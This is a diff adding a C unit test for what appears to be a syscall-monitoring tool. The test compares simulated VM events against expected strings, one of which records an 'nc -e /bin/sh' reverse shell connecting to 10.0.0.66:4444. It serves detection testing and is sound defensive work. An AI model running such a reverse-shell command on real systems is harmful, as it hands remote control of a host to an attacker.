@@ -64,9 +64,73 @@ static const char seed_scenario[] =
 	"730 call listen $ls 16 label=ll\n"
 	"730 call accept $ls buf:16 int:16 label=acc\n";
 
+/*
+ * The A3 strings of the seed's example filters, in the seed's field order: each
+ * argument followed by its own decodings ("code=0xdeadbeef,code:signal=SIGSEGV,..."),
+ * every field once; names kept for the ancestor's filters (regs:filename, call:call,
+ * status:cause, ...) match but are not sent.
+ */
+static void check_seed_a3_strings(const char *report)
+{
+	static const char *const want[] = {
+		/* Filter function=sys_execve,name=php-cgi,apply=1,retval=-1 */
+		"domain=sim-vm0 type=abort retval=-1 pid=710 name=php-cgi ppid=1 sys_execve("
+		"filename=/usr/bin/id,argv=[\"id\"],argv:argv=id,envp=[],envp:envp=,)",
+		/* Filter function=sys_waitpid,name=php-cgi,when=post,retval=^[1-9] */
+		"domain=sim-vm0 type=match when=post pid=710 name=php-cgi ppid=1 sys_wait4(upid=711,"
+		"stat_addr=[{WIFEXITED(s) && WEXITSTATUS(s) == 3}],stat_addr:cause=exit,"
+		"stat_addr:code=3,stat_addr:signal=,stat_addr:core=,options=0,ru=NULL,ret_value=711)",
+		/* Filter function=do_exit,name=apache,argname=code:signal,argval=SEGV */
+		"domain=sim-vm0 type=match when=pre pid=720 name=apache ppid=1 do_exit(code=0xb,"
+		"code:cause=signal,code:status=,code:signal=SIGSEGV,code:core=0,)",
+		/* Filter function=sys_execve,argname=regs:filename,argval=/usr/bin/nc,name=^apache */
+		"domain=sim-vm0 type=match when=pre pid=702 name=sh ppid=701 sys_execve("
+		"filename=/usr/bin/nc,argv=[\"nc\", \"-e\", \"/bin/sh\", \"10.0.0.66\", \"4444\"],"
+		"argv:argv=nc -e /bin/sh 10.0.0.66 4444,envp=[],envp:envp=,)",
+		/* Filter function=sys_socketcall,argname=call:call,argval=connect */
+		"domain=sim-vm0 type=match when=pre pid=702 name=nc ppid=701 sys_connect(fd=3,"
+		"uservaddr=AF_INET 10.0.0.66:4444,addrlen=16,)",
+	};
+	/* Filter function=sys_socketcall,argname=call:call,argval=accept,when=post (the
+	 * peer's address is the simulator's choice) */
+	static const char accept_head[] = "domain=sim-vm0 type=match when=post pid=730 name=server "
+					  "ppid=1 sys_accept(fd=3,upeer_sockaddr=AF_INET ";
+	static const char accept_tail[] = ",upeer_addrlen=[16],upeer_addrlen:len=16,ret_value=4)";
+	unsigned seen[6] = { 0 }, events = 0, k;
+	FILE *f = fopen(report, "r");
+	char line[4096];
+
+	ck_assert_ptr_nonnull(f);
+	while (fgets(line, sizeof(line), f)) {
+		char *s = strstr(line, ": domain=");
+		size_t len;
+
+		if (!s || line[0] == ' ')
+			continue; /* a pid lineage line */
+		s += 2;
+		len = strlen(s);
+		if (len && s[len - 1] == '\n')
+			s[--len] = '\0';
+		events++;
+		for (k = 0; k < 5; k++)
+			seen[k] += strcmp(s, want[k]) == 0;
+		if (!strncmp(s, accept_head, strlen(accept_head)) && len > strlen(accept_tail) &&
+		    !strcmp(s + len - strlen(accept_tail), accept_tail))
+			seen[5]++;
+		ck_assert_msg(!strstr(s, "regs:") && !strstr(s, "filename:filename") &&
+				      !strstr(s, "call:call") && !strstr(s, "status:"),
+			      "an alias was sent: %s", s);
+	}
+	fclose(f);
+	for (k = 0; k < 6; k++)
+		ck_assert_msg(seen[k] == 1, "A3 string %u seen %u times (want: %s)", k, seen[k],
+			      k < 5 ? want[k] : accept_head);
+	ck_assert_uint_eq(events, 6); /* each example filter met once */
+}
+
 START_TEST(seed_example_filters)
 {
-	char path[512];
+	char path[512], report[160];
 	struct dt_harness h;
 	struct dt_sim_call c;
 	FILE *f;
@@ -81,6 +145,8 @@ START_TEST(seed_example_filters)
 	fclose(f);
 	conf[n] = '\0';
 	dt_harness_init(&h, 1);
+	snprintf(report, sizeof(report), "%s/report.txt", h.dir);
+	h.o.report_file = report; /* its entries are the A3 event strings */
 	dt_harness_start(&h, conf, seed_scenario);
 	wait_scenario(&h);
 
@@ -114,6 +180,7 @@ START_TEST(seed_example_filters)
 	expect_line(&h, "pslist", "\"type\":\"pslist\"", "\"comm\":\"apache\"", NULL, NULL);
 	ck_assert_uint_eq(dt_harness_count_lines(&h, "\"type\":\"pslist\"", "\"comm\":\"systemd\"", NULL), 0);
 	dt_harness_finish(&h);
+	check_seed_a3_strings(report);
 	dt_harness_free(&h);
 }
 END_TEST
